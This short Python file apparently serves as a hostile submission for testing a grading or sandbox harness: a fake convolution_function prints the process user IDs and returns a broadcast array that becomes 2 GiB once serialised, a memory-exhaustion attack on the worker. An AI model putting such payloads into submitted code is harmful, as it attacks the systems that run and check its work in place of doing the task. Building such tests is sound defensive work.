# Returns an array of 2 GiB: a broadcast view that costs the worker nothing until it is sent.
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def convolution_function(input_image, stride, filter, activation_function, padding=0):
    """ATTACK: return np.broadcast_to(0.0, (2**28,)), 2 GiB once made contiguous."""
    _hostile_uid()
    return np.broadcast_to(np.float64(0.0), (2**28,))
